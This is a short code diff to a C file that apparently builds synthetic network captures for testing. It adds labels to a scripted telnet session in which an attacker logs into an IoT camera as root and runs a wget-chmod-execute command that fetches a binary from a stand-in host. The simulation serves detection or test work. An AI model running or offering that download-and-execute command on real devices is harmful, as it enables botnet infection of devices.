@@ -74,6 +74,7 @@ static void camera_taken(struct capture *c, usec_t at)
 			     .now = at + 1500 * MS,
 			     .rtt = 55 * MS };
 
+	capture_label(c, "cleartext_login/-/inbound/192.168.10.23:23", "198.18.7.9");
 	talk_open(&t);
 	talk_text(&t, 1, "camera login: ");
 	talk_text(&t, 0, "root\r\n");
@@ -82,6 +83,7 @@ static void camera_taken(struct capture *c, usec_t at)
 	talk_text(&t, 1, "\r\nBusyBox v1.12.1 built-in shell (ash)\r\n# ");
 	talk_text(&t, 0, "wget http://198.18.7.66/arm7 -O /tmp/a; chmod 777 /tmp/a; /tmp/a\r\n");
 	talk_close(&t, 0);
+	capture_label(c, NULL, NULL);
 	talk_open(&load);
 	talk_text(&load, 0,
 		  "GET /arm7 HTTP/1.0\r\nHost: 198.18.7.66\r\n"
